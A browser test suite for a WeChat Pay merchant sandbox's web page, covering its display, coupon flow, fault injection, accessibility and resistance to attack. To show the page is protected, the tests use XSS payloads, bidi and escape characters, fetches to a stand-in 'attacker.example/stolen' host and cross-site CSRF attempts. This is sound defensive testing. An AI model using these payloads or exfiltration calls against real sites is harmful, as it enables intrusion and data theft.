// The page at the root of the built package's sandbox, in a real Chromium: what it shows, what it does, what nobody else can do.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import { after, before, describe, test } from "node:test";

import { ofPages, startBrowser } from "../page/browser.mjs";
import { NotRun } from "../runtimes/process.mjs";
import { APPID, build, call, ECHO, exchange, guideBody, LIST, terminate } from "../sandbox/merchant.mjs";

const require = createRequire(import.meta.url);
const { startSandbox } = await import("../../pkg/sandbox/index.js");
const axe = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");

let browser;
let missing;
let elsewhere;
before(async () => {
  elsewhere = await proxy();
  browser = await startBrowser(`--proxy-server=127.0.0.1:${elsewhere.port}`).catch((error) => {
    if (!(error instanceof NotRun)) throw error;
    missing = error.message;
  });
});
after(() => {
  browser?.close();
  elsewhere?.close();
});

/** Whatever Chromium asks anybody but this machine for passes here, and is answered with a page of another site. */
async function proxy() {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>another site</title>");
  });
  server.on("connect", (request, socket) => {
    asked.push(`CONNECT ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const close = () => {
    server.closeAllConnections();
    server.close();
  };
  return { asked, port: server.address().port, close };
}

/** A test with a sandbox and a tab of its own. */
function inTab(name, action, { path = "/?lang=zh" } = {}) {
  test(name, async (context) => {
    if (missing) return context.skip(missing);
    const sandbox = await startSandbox();
    const tab = await browser.open();
    try {
      await tab.visit(sandbox.url + path);
      await tab.until(() => document.querySelectorAll("#partnership option").length > 0);
      await action(tab, sandbox);
      assert.deepEqual(
        tab.events.filter(({ method }) => method === "Runtime.exceptionThrown").map(({ params }) => params),
        [],
      );
    } finally {
      await tab.close();
      await sandbox.close();
    }
  });
}

const rows = (count) => document.querySelectorAll("#requests > li").length === count;
const says = (id, text) => document.getElementById(id).textContent.includes(text);
const open = (at) => document.querySelectorAll("#requests details")[at].setAttribute("open", "");
const set = (id, value) => {
  const field = document.getElementById(id);
  field.value = value;
  field.dispatchEvent(new Event("change", { bubbles: true }));
};
const click = (id) => document.getElementById(id).click();

for (const [form, start] of [
  ["ES module", startSandbox],
  ["CommonJS", require("../../pkg/sandbox/index.cjs").startSandbox],
]) {
  test(`the built package has its page, as ${form}`, async () => {
    const sandbox = await start();
    const answer = await exchange(sandbox, "GET", "/", { Accept: "text/html" });
    await sandbox.close();
    assert.equal(answer.status, 200);
    assert.match(answer.text, /<style>[^<]*:root[\s\S]*<script type="module">/);
  });
}

// ---- what it shows

inTab("a request comes by itself, with its checks; the first difference of what was signed is marked", async (tab, sandbox) => {
  await build(sandbox);
  const target = `${LIST}?authorized_data=%7b%22business_type%22%3a%22FAVOR_STOCK%22%7d`;
  const signed = target.replace(/%../g, (byte) => byte.toUpperCase());
  await call(sandbox, "GET", target, { signed: { target: signed } });
  await tab.until(rows, 2);
  await tab.run(open, 0);
  await tab.until(() => document.querySelectorAll("#requests .checks li").length === 7);
  const checks = () => [...document.querySelectorAll(".checks li")].map(({ textContent }) => textContent.slice(0, 4));
  assert.deepEqual((await tab.run(checks)).slice(-3), ["✓ 证书", "✓ 时间", "✗ 签名"]);
  assert.deepEqual(await tab.run(() => [...document.querySelectorAll("mark")].map(({ textContent }) => textContent)), ["B", "b"]);
  assert.equal(await tab.run(() => document.querySelector(".differs code").textContent), `${target}↵`);
  const ends = () => [...document.querySelectorAll(".lines li code")].map(({ textContent }) => textContent.slice(-1));
  assert.deepEqual(await tab.run(ends), ["↵", "↵", "↵", "↵", "↵"]);
  const [, signature] = /signature="([^"]*)/.exec(sandbox.requests[1].headers.find(([name]) => name === "Authorization")[1]);
  assert.equal(await tab.run((text) => document.documentElement.outerHTML.includes(text), signature.slice(0, 24)), false);
});

inTab("partnerships are listed as they are built and terminated", async (tab, sandbox) => {
  await build(sandbox);
  await tab.until(says, "partnerships", "已建立");
  await terminate(sandbox);
  await tab.until(says, "partnerships", "已终止");
});

inTab("at most 200 requests are shown; a pause holds them back; a screen reader hears of many at once", async (tab, sandbox) => {
  await tab.run(() => {
    window.heard = [];
    new MutationObserver(() => window.heard.push(document.getElementById("status").textContent)).observe(
      document.getElementById("status"),
      { childList: true },
    );
  });
  for (let count = 0; count < 60; count += 1) await exchange(sandbox, "GET", `/${count}`, {});
  await tab.until(rows, 60);
  await tab.until(() => window.heard.length > 0);
  const heard = await tab.run(() => window.heard);
  assert.ok(heard.length <= 2, heard.join("\n"));

  await tab.run(click, "pause");
  for (let count = 60; count < 210; count += 1) await exchange(sandbox, "GET", `/${count}`, {});
  await tab.until(says, "pause", "150");
  assert.ok(await tab.run(rows, 60));
  await tab.run(click, "pause");
  await tab.until(rows, 200);
  const targets = () => [...document.querySelectorAll("#requests .target")].map(({ textContent }) => textContent);
  assert.deepEqual((await tab.run(targets)).slice(0, 2), ["/209", "/208"]);
  await tab.run(click, "clear");
  assert.ok(await tab.run(rows, 0));
});

const MARKUP = `"><img src=x onerror="window.ran=1"><script>window.ran=1</script></pre></details><svg onload=window.ran=1>`;

inTab("markup in path, header, body and names is text", async (tab, sandbox) => {
  const escaped = encodeURI(MARKUP).replace(/%3C/g, "<").replace(/%3E/g, ">").replace(/%22/g, '"');
  const headers = { "X-Markup": MARKUP, "User-Agent": MARKUP, Accept: "*/*" };
  await exchange(sandbox, "POST", `/${escaped}?x=${escaped}`, headers, MARKUP);
  await call(sandbox, "POST", ECHO, { body: MARKUP, signBody: `${MARKUP} `, headers });
  await call(sandbox, "GET", ECHO, { signed: { mchid: "<img src=x onerror=window.ran=1>" } });
  const merchant = { type: "MERCHANT", merchant_id: "<b>12345</b>" };
  const data = { business_type: "BUSIFAVOR_STOCK", stock_id: "2433406" };
  await build(sandbox, { body: JSON.stringify({ partner: merchant, authorized_data: data }) });
  await build(sandbox);
  sandbox.handOutCoupon({ appid: APPID, stock_id: "2433405", openid: MARKUP.slice(0, 100) });
  await exchange(sandbox, "GET", "/", { Host: MARKUP });
  await tab.until(rows, 6);
  await tab.run(() => {
    for (const details of document.querySelectorAll("details")) details.open = true;
  });
  await tab.until(() => document.querySelectorAll("#requests pre").length >= 2);
  await tab.until(says, "coupons", "<img");
  assert.deepEqual(
    await tab.run(() => [window.ran ?? 0, document.querySelectorAll("main img, main script, main svg, main b").length]),
    [0, 0],
  );
  const shown = await tab.run(() => document.getElementById("requests").textContent);
  assert.ok(shown.split(MARKUP).length > 4);
});

inTab("characters that steer or turn the writing are not shown as such", async (tab, sandbox) => {
  await exchange(sandbox, "POST", "/x", { "X-Turn": "\u0085\u00e2\u0080\u00ae" }, "\u202e\u2066\u001b[2Jabc");
  await tab.until(rows, 1);
  await tab.run(open, 0);
  await tab.until(() => document.querySelector("pre") !== null);
  assert.doesNotMatch(
    await tab.run(() => document.getElementById("requests").textContent),
    /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
  );
});

// ---- what it does

inTab(
  "a user takes a coupon: refused before the partnership is built, taken after, the handler notified",
  async (tab, sandbox) => {
    const notified = [];
    const handler = createServer((request, response) => {
      notified.push(request.headers);
      response.writeHead(204).end();
    });
    await new Promise((resolve) => handler.listen(0, "127.0.0.1", resolve));
    try {
      await tab.run(click, "take");
      await tab.until(says, "taken", "商户未被授权");
      assert.equal(sandbox.coupons.length, 0);
      await build(sandbox);
      await tab.until(says, "partnership", "已建立");
      await tab.run(set, "handler", `http://127.0.0.1:${handler.address().port}/notify`);
      await tab.run(click, "take");
      await tab.until(says, "taken", "204");
      assert.equal(sandbox.coupons.length, 1);
      assert.ok(notified[0]["wechatpay-signature"]);
      await tab.until(says, "coupons", sandbox.coupons[0].coupon_id);
    } finally {
      handler.close();
      handler.closeAllConnections();
    }
  },
);

inTab("a fault is injected and cancelled with the keyboard alone", async (tab, sandbox) => {
  const reached = [];
  for (let at = 0; at < 40 && !reached.includes("inject"); at += 1) {
    await tab.press("Tab");
    reached.push(await tab.run(() => document.activeElement.id));
  }
  const wanted = [
    "pause",
    "clear",
    "partnership",
    "openid",
    "handler",
    "notificationFault",
    "take",
    "kind",
    "times",
    "always",
    "ms",
  ];
  assert.deepEqual(
    reached.filter((id) => wanted.includes(id)),
    wanted,
  );
  await tab.run(set, "kind", "500");
  await tab.run(set, "times", "2");
  await tab.run(() => document.getElementById("inject").focus());
  await tab.press("Enter");
  await tab.until(says, "faults", "还剩 2 次");
  assert.equal((await call(sandbox, "GET", ECHO)).status, 500);
  await tab.until(says, "faults", "还剩 1 次");
  await tab.run(() => document.querySelector("#faults button").focus());
  await tab.press("Enter");
  await tab.until(says, "injected", "已取消");
  assert.equal((await call(sandbox, "GET", ECHO)).status, 200);
  assert.equal(await tab.run(() => document.activeElement.id), "kind");
});

inTab("what came while the connection was broken is shown once it is back, each once", async (tab, sandbox) => {
  const network = (offline) =>
    tab.send("Network.emulateNetworkConditions", { offline, latency: 0, downloadThroughput: -1, uploadThroughput: -1 });
  await exchange(sandbox, "GET", "/1", {});
  await tab.until(rows, 1);
  await network(true);
  await exchange(sandbox, "GET", "/2", {});
  await tab.until(() => !document.getElementById("connection").hidden);
  await exchange(sandbox, "GET", "/3", {});
  await network(false);
  await tab.until(() => document.getElementById("connection").hidden);
  await tab.until(says, "requests", "/3");
  assert.ok(await tab.run(rows, 3));
});

test("a sandbox that was started again at the same address is found out, and not asked in the old one's name", async (context) => {
  if (missing) return context.skip(missing);
  const first = await startSandbox();
  const tab = await browser.open();
  let second;
  try {
    await tab.visit(`${first.url}/?lang=zh`);
    await tab.until(() => document.querySelectorAll("#partnership option").length > 0);
    await first.close();
    await tab.until(says, "connection", "正在重连");
    second = await startSandbox({ port: first.port });
    const fault = second.inject({ kind: "500" });
    await tab.until(says, "connection", "已重启");
    assert.deepEqual([second.requests.length, fault.remaining], [0, 1]);
    await tab.run(() => document.querySelector("#connection button").click());
    await tab.until((serial) => document.getElementById("facts")?.textContent.includes(serial), second.merchant.serialNo);
  } finally {
    await tab.close();
    await first.close();
    await second?.close();
  }
});

inTab("in English by the switch, and back", async (tab) => {
  assert.equal(await tab.run(() => document.documentElement.lang), "zh-CN");
  await tab.run(() => document.querySelector("header a").click());
  await tab.until(() => document.documentElement?.lang === "en" && document.querySelectorAll("#partnership option").length > 0);
  const han = /[\u4e00-\u9fff]/;
  assert.doesNotMatch(await tab.run(() => document.querySelector("main").textContent), han);
  await tab.run(() => document.querySelector("header a").click());
  await tab.until(() => document.documentElement?.lang === "zh-CN");
});

// ---- what leaves, what stays, and who else may

inTab("nothing is asked of anybody else, and nothing is stored", async (tab, sandbox) => {
  await build(sandbox);
  await tab.until(rows, 1);
  await tab.run(click, "take");
  await tab.until(says, "taken", "已领券");
  const stored = await tab.run(() => [localStorage.length, sessionStorage.length, document.cookie]);
  assert.deepEqual(stored, [0, 0, ""]);
  assert.deepEqual(await tab.run(async () => [(await indexedDB.databases()).length, (await caches.keys()).length]), [0, 0]);
  // Somebody else's script in the page could not send anything elsewhere either.
  const tried = await tab.run(async () => {
    const outcomes = [];
    await fetch("http://attacker.example/stolen").catch(() => outcomes.push("fetch"));
    await new Promise((resolve) => {
      const image = new Image();
      image.onerror = () => resolve(outcomes.push("image"));
      image.src = "http://attacker.example/stolen.png";
    });
    try {
      document.body.innerHTML = "<b>x</b>";
    } catch {
      outcomes.push("innerHTML");
    }
    return outcomes;
  });
  assert.deepEqual(tried, ["fetch", "image", "innerHTML"]);
  const sent = tab.events.filter(({ method }) => method === "Network.requestWillBeSent").map(({ params }) => params.request.url);
  const foreign = sent.filter((url) => !url.startsWith(`${sandbox.url}/`) && !/stolen/.test(url));
  assert.deepEqual(foreign, []);
  assert.deepEqual(ofPages(elsewhere.asked), []);
});

describe("a page of another site", () => {
  for (const site of ["http://attacker.example/", "another port of this machine"]) {
    test(`neither reads nor triggers anything: ${site}`, async (context) => {
      if (missing) return context.skip(missing);
      const sandbox = await startSandbox();
      const other = await proxy();
      const tab = await browser.open();
      try {
        await build(sandbox);
        await tab.visit(site.startsWith("http") ? site : `http://localhost:${other.port}/`);
        const before = sandbox.requests.length;
        const read = await tab.run(async (url) => {
          const prefix = `${url}/wechatpay-wasm/sandbox/`;
          const found = [];
          const note = async (name, promise) => {
            const answer = await promise.catch(() => undefined);
            const text = answer && (await answer.text().catch(() => ""));
            if (text) found.push([name, text.slice(0, 100)]);
          };
          const html = { headers: { Accept: "text/html" } };
          for (const mode of ["cors", "no-cors"]) {
            await note("page", fetch(url, { mode, ...html }));
            await note("state", fetch(`${prefix}state?after=0`, { mode }));
            const body = JSON.stringify({ kind: "500", times: null });
            await note("fault", fetch(`${prefix}fault`, { mode, method: "POST", body }));
            const headers = { "Content-Type": "application/json", "Sandbox-Token": "x" };
            if (mode === "cors") await note("fault with headers", fetch(`${prefix}fault`, { method: "POST", body, headers }));
          }
          navigator.sendBeacon(`${prefix}fault`, "{}");
          const loaded = (name, src) =>
            new Promise((resolve) => {
              const made = document.body.appendChild(document.createElement(name));
              made.onload = () => resolve(found.push([name, "loaded"]));
              made.onerror = resolve;
              made.src = src;
            });
          await loaded("img", `${prefix}state?after=0`);
          await loaded("script", `${prefix}state?after=0`);
          await loaded("script", url);
          const frame = document.body.appendChild(document.createElement("iframe"));
          frame.name = "frame";
          frame.src = url;
          await new Promise((resolve) => {
            frame.onload = resolve;
          });
          try {
            found.push(["frame", frame.contentDocument.body.textContent]);
          } catch {
            // It is another site's.
          }
          const form = document.body.appendChild(document.createElement("form"));
          Object.assign(form, { method: "post", action: `${prefix}fault`, target: "frame", enctype: "text/plain" });
          form.append(Object.assign(document.createElement("input"), { name: '{"kind":"500","x":"', value: '"}' }));
          form.submit();
          const opened = open(url);
          await new Promise((resolve) => setTimeout(resolve, 500));
          try {
            if (opened && opened.document.body.textContent !== "") found.push(["window", opened.document.body.textContent]);
          } catch {
            // So is this.
          }
          return found.filter(([, text]) => text !== null && text !== "");
        }, sandbox.url);
        assert.deepEqual(read, []);
        assert.equal((await call(sandbox, "GET", ECHO)).status, 200, "a fault was injected");
        assert.equal(sandbox.coupons.length, 0);
        const sent = tab.events
          .filter(({ method }) => method === "Network.requestWillBeSent")
          .map(({ params }) => params.request.url);
        assert.ok(sent.filter((url) => url.startsWith(sandbox.url)).length > 10, "it did not try");
        for (const { status } of sandbox.requests.slice(before, -1)) assert.ok(status >= 400, String(status));
      } finally {
        await tab.close();
        other.close();
        await sandbox.close();
        elsewhere.asked.length = 0;
      }
    });
  }
});

// ---- accessibility

describe("axe finds no serious fault", () => {
  const SCREENS = { wide: { width: 1360, height: 900 }, narrow: { width: 390, height: 844 } };
  for (const lang of ["zh", "en"]) {
    inTab(
      lang,
      async (tab, sandbox) => {
        await tab.send("Runtime.evaluate", { expression: axe });
        const judge = async (state) => {
          for (const [size, screen] of Object.entries(SCREENS)) {
            for (const scheme of ["light", "dark"]) {
              await tab.look({ ...screen, scheme });
              const faults = await tab.run(async () => {
                const { violations } = await window.axe.run();
                const serious = violations.filter(({ impact }) => ["serious", "critical"].includes(impact));
                return serious.map(({ id, nodes }) => [id, nodes.map(({ html }) => html.slice(0, 200))]);
              });
              assert.deepEqual(faults, [], `${state}, ${size}, ${scheme}`);
              assert.ok(
                await tab.run(() => document.documentElement.scrollWidth <= innerWidth),
                `${state}, ${size}: scrolls sideways`,
              );
            }
          }
        };
        await judge("empty");
        await build(sandbox);
        await terminate(sandbox);
        await build(sandbox);
        await build(sandbox, { signBody: guideBody.trim().replace(/,/, ", ") });
        await build(sandbox, { signBody: "" });
        sandbox.inject({ kind: "latency", ms: 1, times: 5 });
        await call(sandbox, "GET", `${ECHO}/${"x".repeat(2000)}`);
        sandbox.handOutCoupon({ appid: APPID, stock_id: "2433405", openid: "o".repeat(128) });
        await tab.until(rows, 6);
        await tab.run(() => {
          for (const details of document.querySelectorAll("details")) details.open = true;
        });
        await tab.run(click, "take");
        await tab.until(() => document.getElementById("taken").textContent !== "");
        await judge("with everything open");
      },
      { path: `/?lang=${lang}` },
    );
  }
});
